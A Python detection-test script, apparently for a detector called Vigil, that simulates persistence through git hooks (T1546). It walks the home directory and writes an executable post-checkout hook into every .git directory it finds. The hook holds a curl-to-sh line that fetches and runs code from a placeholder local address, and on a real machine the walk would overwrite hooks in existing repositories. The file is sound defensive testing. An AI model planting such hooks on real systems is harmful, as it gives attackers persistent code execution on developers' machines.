# technique: T1546 T1059.004
# gap: writing git hooks is what project set-up scripts and the pre-commit framework do; Vigil records it at low severity only (docs/detection.md, precision)
"""Persistence / execution through a git hook (T1546).

Supply-chain implants plant hooks in developers' repositories so that the
next `git commit` or `git checkout` runs the attacker's script. The repo is
found by walking HOME for .git directories (here one is created first, the
way a developer's clone would exist), then .git/hooks/post-checkout is
written and made executable with os.chmod(0o755).

A good detector raises a high alert: an executable file is created in a
.git/hooks directory.
"""
import os, stat, subprocess

home = os.path.expanduser("~")
repo = os.path.join(home, "src", "project")
try:
    subprocess.run(["git", "init", "-q", repo], timeout=5, check=False)
except Exception:
    os.makedirs(os.path.join(repo, ".git", "hooks"), exist_ok=True)
os.makedirs(os.path.join(repo, ".git", "hooks"), exist_ok=True)
for root, dirs, files in os.walk(home):
    if root.endswith(os.sep + ".git"):
        hook = os.path.join(root, "hooks", "post-checkout")
        with open(hook, "w") as f:
            f.write("#!/bin/sh\n(curl -s http://127.0.0.1:1/h | sh) >/dev/null 2>&1 &\n")
        os.chmod(hook, os.stat(hook).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
        dirs[:] = []
